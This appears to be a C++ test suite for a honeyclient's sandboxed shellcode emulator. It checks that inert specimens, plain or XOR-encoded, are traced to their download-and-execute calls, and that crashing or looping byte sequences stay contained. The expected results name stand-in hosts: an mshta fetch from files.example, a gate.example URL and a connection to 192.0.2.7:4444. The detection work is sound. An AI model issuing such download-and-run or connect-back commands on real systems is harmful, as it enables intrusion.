// Inert specimens (specimens/*.s) run in the emulator, and what must come to nothing.
#include <gtest/gtest.h>
#include <sys/wait.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <iterator>
#include <random>

#include "cell/limits.h"
#include "cell/testing.h"
#include "honeyclient/shellcode/confine.h"
#include "honeyclient/shellcode/emulator.h"
#include "honeyclient/shellcode/run.h"
#include "triage/machine_code.h"

namespace shikake::honeyclient::shellcode {
namespace {

using testing::TestWithParam;
using namespace std::string_literals;

std::string specimen(const std::string& name) {
  std::ifstream file(std::filesystem::path(SHIKAKE_SHELLCODE_SPECIMENS) / (name + ".bin"), std::ios::binary);
  return {std::istreambuf_iterator<char>(file), {}};
}

#define SHIKAKE_NEED_SPECIMENS() \
  if (specimen("download").empty()) GTEST_SKIP() << "the assembler i686-linux-gnu-as is not installed here"

// The decoder's head, its length filled in, and the encoded rest.
std::string encoded(std::string_view code) {
  std::string head = specimen("xor_decoder");
  const size_t length = head.find("\x44\x33\x22\x11");
  for (unsigned i = 0; i < 4; ++i) head[length + i] = static_cast<char>(code.size() >> (8 * i));
  for (char c : code) head += static_cast<char>(c ^ 0x5A);
  return head;
}

Report run_bytes(std::string_view bytes) {
  return run(base::as_bytes(bytes));
}

std::vector<std::string> functions(const Report& report) {
  std::vector<std::string> out;
  for (const Call& call : report.calls) out.push_back(call.function);
  return out;
}

struct SpecimenRow {
  const char* name;
  Outcome outcome;
  std::vector<std::string> urls, commands, connections, files;
  const char* last_function;
};
const SpecimenRow specimen_rows[] = {
    {"download",
     Outcome::exited,
     {"http://files.example/specimen.exe"},
     {"C:\\specimen.exe"},
     {},
     {"C:\\specimen.exe"},
     "kernel32.ExitProcess"},
    {"command",
     Outcome::exited,
     {},
     {"mshta http://files.example/specimen.hta"},
     {},
     {},
     "kernel32.ExitThread"},
    {"request",
     Outcome::exited,
     {"http://gate.example:8080/load?id=1"},
     {},
     {},
     {"C:\\WINDOWS\\Temp\\specimen.tmp"},
     "kernel32.ExitProcess"},
    {"connect", Outcome::waits, {}, {}, {"connects to 192.0.2.7:4444"}, {}, "kernel32.Sleep"},
    {"exceptions",
     Outcome::exited,
     {},
     {"mshta http://files.example/exceptions.hta"},
     {},
     {},
     "kernel32.ExitThread"},
    {"fixed_addresses", Outcome::exited, {}, {"mshta"}, {}, {}, "kernel32.ExitProcess"},
    {"past_hooks", Outcome::unknown_call, {}, {}, {}, {}, "specimen.dll.SpecimenFunction"},
};

class Specimens : public TestWithParam<SpecimenRow> {};
INSTANTIATE_TEST_SUITE_P(All, Specimens, testing::ValuesIn(specimen_rows),
                         [](const auto& row) { return std::string(row.param.name); });

void check(const SpecimenRow& row, const Report& report) {
  EXPECT_EQ(report.outcome, row.outcome);
  EXPECT_EQ(report.urls, row.urls);
  EXPECT_EQ(report.commands, row.commands);
  EXPECT_EQ(report.connections, row.connections);
  std::vector<std::string> paths;
  for (const WrittenFile& file : report.files) paths.push_back(file.path);
  EXPECT_EQ(paths, row.files);
  ASSERT_FALSE(report.calls.empty());
  EXPECT_EQ(report.calls.back().function, row.last_function);
}

TEST_P(Specimens, ShowWhatTheyAreAfter) {
  SHIKAKE_NEED_SPECIMENS();
  const Report report = run_bytes(specimen(GetParam().name));
  check(GetParam(), report);
  EXPECT_EQ(report.begins, 0u);
  EXPECT_TRUE(report.decoders.empty());
}

TEST_P(Specimens, ShowItBehindADecoder) {
  SHIKAKE_NEED_SPECIMENS();
  const std::string code = specimen(GetParam().name);
  const Report report = run_bytes(encoded(code));
  check(GetParam(), report);
  ASSERT_EQ(report.decoders.size(), 1u);
  EXPECT_EQ(report.decoders[0].bytes, code.size());
  EXPECT_EQ(report.decoders[0].offset, 9u);  // the loop
}

TEST_P(Specimens, ShowItBehindTwoDecodersAndASled) {
  SHIKAKE_NEED_SPECIMENS();
  const std::string code = std::string(5000, '\x90') + encoded(encoded(specimen(GetParam().name)));
  const Report report = run_bytes(code);
  check(GetParam(), report);
  EXPECT_EQ(report.decoders.size(), 2u);
}

TEST_P(Specimens, AreFoundAmongOtherBytes) {
  SHIKAKE_NEED_SPECIMENS();
  const std::string code = "PACKED\xFF\xFF\xFF\xFF some header"s + specimen(GetParam().name) + "and an end";
  const Report report = run_bytes(code);
  check(GetParam(), report);
  EXPECT_EQ(report.begins, 22u);
}

TEST(Shellcode, TracesItsCalls) {
  SHIKAKE_NEED_SPECIMENS();
  const Report report = run_bytes(specimen("download"));
  EXPECT_EQ(functions(report), (std::vector<std::string>{"kernel32.LoadLibraryA", "urlmon.URLDownloadToFileA",
                                                         "kernel32.WinExec", "kernel32.ExitProcess"}));
  EXPECT_EQ(report.calls[1].arguments, (std::vector<std::string>{"0x0", "http://files.example/specimen.exe",
                                                                 "C:\\specimen.exe", "0x0", "0x0"}));
  // Each returns into the code, in order.
  for (size_t i = 1; i < report.calls.size(); ++i)
    EXPECT_GT(report.calls[i].offset, report.calls[i - 1].offset);
  EXPECT_LT(report.calls.back().offset, specimen("download").size());
}

TEST(Shellcode, KeepsWhatIsWrittenIntoFiles) {
  SHIKAKE_NEED_SPECIMENS();
  const Report report = run_bytes(specimen("request"));
  ASSERT_EQ(report.files.size(), 1u);
  EXPECT_EQ(report.files[0].bytes, "specimen");
}

struct HostileRow {
  const char* name;
  std::string code;
  Outcome outcome;
};
const HostileRow hostile_rows[] = {
    {"loop", "\xEB\xFE"s, Outcome::endless},
    {"returns", "\xC3"s, Outcome::exited},
    {"nothing_there", "\xE9\x00\x00\x00\x50"s, Outcome::bad_memory},
    {"jump_to_zero", "\x31\xC0\xFF\xE0"s, Outcome::bad_memory},
    {"no_instruction", "\x0F\x0B"s, Outcome::bad_code},
    {"no_such_instruction", "\x0F\xFF\xFF\xFF"s, Outcome::bad_code},
    {"halt", "\xF4"s, Outcome::bad_code},
    {"breakpoint", "\xCC"s, Outcome::bad_code},
    {"divides_by_zero", "\x31\xC9\xF7\xF1"s, Outcome::bad_code},
    {"unknown_system_call", "\x31\xC0\xCD\x2E"s, Outcome::bad_code},
    {"linux_system_call", "\x31\xC0\xCD\x80"s, Outcome::bad_code},
    // mov esp, 0; push eax
    {"no_stack", "\xBC\x00\x00\x00\x00\x50"s, Outcome::bad_memory},
    // call 0: fills its stack.
    {"calls_itself", "\xE8\xFB\xFF\xFF\xFF"s, Outcome::bad_memory},
    // mov edi, here; mov ecx, -1; rep stosb: writes over itself and on.
    {"writes_over_all", "\xE8\x00\x00\x00\x00\x5F\x83\xC9\xFF\xF3\xAA"s, Outcome::bad_memory},
    // Its handler is the faulting instruction: push here; push fs:[0]; mov fs:[0], esp; mov eax, [0]
    {"handler_that_faults",
     "\xE8\x00\x00\x00\x00\x58\x83\xC0\x15\x31\xC9\x50\x64\xFF\x31\x64\x89\x21\x90\x90\x90\x90\x90\x90\x90"
     "\xA1\x00\x00\x00\x00"s,
     Outcome::bad_memory},
    // As above, and it answers "go on" for ever.
    {"handler_that_changes_nothing",
     "\xE8\x00\x00\x00\x00\x58\x83\xC0\x12\x31\xC9\x50\x64\xFF\x31\x64\x89\x21\xA1\x00\x00\x00\x00"
     "\x31\xC0\xC3"s,
     Outcome::bad_memory},
    // push -1; push -1; mov fs:[0], esp; int3: a handler where nothing is.
    {"handler_nowhere", "\x6A\xFF\x6A\xFF\x31\xC9\x64\x89\x21\xCC"s, Outcome::bad_memory},
    // xor ecx, ecx; mov fs:[ecx], ecx; int3: a chain that is none.
    {"chain_nowhere", "\x31\xC9\x64\x89\x09\xCC"s, Outcome::bad_code},
    // mov fs:[0], esp, over itself: a chain without end.
    {"chain_in_a_ring", "\x54\x54\x31\xC9\x64\x89\x21\x89\x24\x24\xCC"s, Outcome::bad_code},
    // pushfd; or [esp], trap; popfd; nops: a step at a time, unhandled.
    {"single_steps", "\x9C\x81\x0C\x24\x00\x01\x00\x00\x9D\x90\x90\xEB\xFE"s, Outcome::bad_code},
    // Rewrites its own jump for ever: inc byte [esi+…]; jmp
    {"rewrites_itself", "\xE8\x00\x00\x00\x00\x5E\xFE\x46\x08\x31\xC0\xEB\xF9\x90"s, Outcome::endless},
    // lidt, lgdt, mov cr0: what only a kernel does; it turns no protection off that matters here.
    {"kernel_instructions", "\x0F\x01\x18\x0F\x01\x10\x0F\x22\xC0\xEB\xFE"s, Outcome::endless},
    {"segments", "\x66\xB8\xFF\xFF\x8E\xD8\x8E\xD0\xEB\xFE"s, Outcome::bad_code},
    {"far_call_through_a_register", "\xFF\xD9"s, Outcome::bad_code},
    {"far_jump_through_a_register", "\x90\xFF\xE9"s, Outcome::bad_code},
};

class HostileCode : public TestWithParam<HostileRow> {};
INSTANTIATE_TEST_SUITE_P(All, HostileCode, testing::ValuesIn(hostile_rows),
                         [](const auto& row) { return std::string(row.param.name); });
TEST_P(HostileCode, EndsAndCallsNothing) {
  const Report report = run_bytes(GetParam().code);
  EXPECT_FALSE(report.is_shellcode());
  EXPECT_EQ(name(report.outcome), name(GetParam().outcome));
}

// What makes the emulator's library end its process ends a run, and nothing that is seen in another one.
TEST(Shellcode, IsSeenBehindWhatTheEmulatorCantTranslate) {
  SHIKAKE_NEED_SPECIMENS();
  const std::string code = "\xFF\xD9"s + specimen("download");
  EXPECT_FALSE(run_bytes(code).urls.empty());
  Emulator emulator;
  for (int i = 0; i < 3; ++i) {
    auto report = emulator.run(code);
    ASSERT_TRUE(report) << report.error().message();
    EXPECT_FALSE(report->urls.empty());
  }
}

TEST(Shellcode, IsBoundedInWhatItAllocatesAndCalls) {
  SHIKAKE_NEED_SPECIMENS();
  // past_hooks, its library's function replaced by one that gives memory, in a loop.
  std::string code = specimen("past_hooks");
  for (auto [from, to] :
       {std::pair{"specimen.dll"s, "kernel32.dll"s}, std::pair{"SpecimenFunction"s, "GetProcessHeap\0\0"s}})
    code.replace(code.find(from), from.size(), to);
  const Report report = run_bytes(code);
  EXPECT_LE(report.calls.size(), max_calls);
  EXPECT_NE(report.outcome, Outcome::exited);
}

TEST(Shellcode, OfRandomBytesCallsNothing) {
  std::mt19937 random(5);
  for (int i = 0; i < 50; ++i) {
    std::string bytes(256, '\0');
    for (char& c : bytes) c = static_cast<char>(random());
    EXPECT_FALSE(run_bytes(bytes).is_shellcode()) << i;
  }
}

TEST(Shellcode, OfNoBytesAtAllIsNone) {
  EXPECT_FALSE(run_bytes("").is_shellcode());
}

// --- the worker

TEST(ShellcodeWorker, AnswersOneQuestionAfterTheOther) {
  SHIKAKE_NEED_SPECIMENS();
  Emulator emulator;
  const std::string code = specimen("download");
  for (int i = 0; i < 3; ++i) {
    auto report = emulator.run(code);
    ASSERT_TRUE(report) << report.error().message();
    EXPECT_EQ(report->urls, std::vector<std::string>{"http://files.example/specimen.exe"});
    EXPECT_GT(emulator.pid(), 0);
  }
  const cell::Confinement seen = cell::confinement_of(emulator.pid());
  EXPECT_TRUE(seen.filtered && seen.no_new_privs);
}

// What it had seen is told, however long the rest would take.
TEST(ShellcodeWorker, TellsOfCodeThatWritesWithoutEnd) {
  SHIKAKE_NEED_SPECIMENS();
  Emulator emulator;
  auto report = emulator.run(specimen("writes_without_end"));
  ASSERT_TRUE(report) << report.error().message();
  EXPECT_EQ(name(report->outcome), name(Outcome::endless));
  ASSERT_EQ(report->files.size(), 1u);
  EXPECT_EQ(report->files[0].path, "C:\\specimen.tmp");
  EXPECT_GT(report->files[0].bytes.size(), 0u);
  EXPECT_LE(report->files[0].bytes.size(), max_file_bytes);
}

TEST(ShellcodeWorker, IsReplacedWhenItDies) {
  SHIKAKE_NEED_SPECIMENS();
  Emulator emulator;
  ASSERT_TRUE(emulator.run("\xC3"));
  ::kill(emulator.pid(), SIGKILL);
  auto lost = emulator.run(specimen("download"));
  ASSERT_FALSE(lost);
  EXPECT_EQ(lost.error().code, ErrorCode::unavailable);
  auto report = emulator.run(specimen("download"));
  ASSERT_TRUE(report) << report.error().message();
  EXPECT_TRUE(report->is_shellcode());
}

base::WaitStatus end_of(int (*action)()) {
  const pid_t child = ::fork();
  if (child == 0) {
    warm_up();
    if (!confine_worker()) ::_exit(cell::status_not_confined);
    ::_exit(action());
  }
  int status = 0;
  EXPECT_EQ(::waitpid(child, &status, 0), child);
  return WIFEXITED(status) ? base::WaitStatus{base::WaitStatus::How::exited, WEXITSTATUS(status)}
                           : base::WaitStatus{base::WaitStatus::How::killed, WTERMSIG(status)};
}

TEST(ShellcodeWorker, CanOnlyComputeAndMakeMemoryExecutable) {
  for (const cell::Attempt& attempt : cell::forbidden_attempts) {
    SCOPED_TRACE(attempt.name);
    const bool executable =
        attempt.action == cell::attempts::map_executable || attempt.action == cell::attempts::make_executable;
    const base::WaitStatus works{base::WaitStatus::How::exited, 0};
    EXPECT_EQ(end_of(attempt.action), executable ? works : attempt.end);
  }
}

}  // namespace
}  // namespace shikake::honeyclient::shellcode
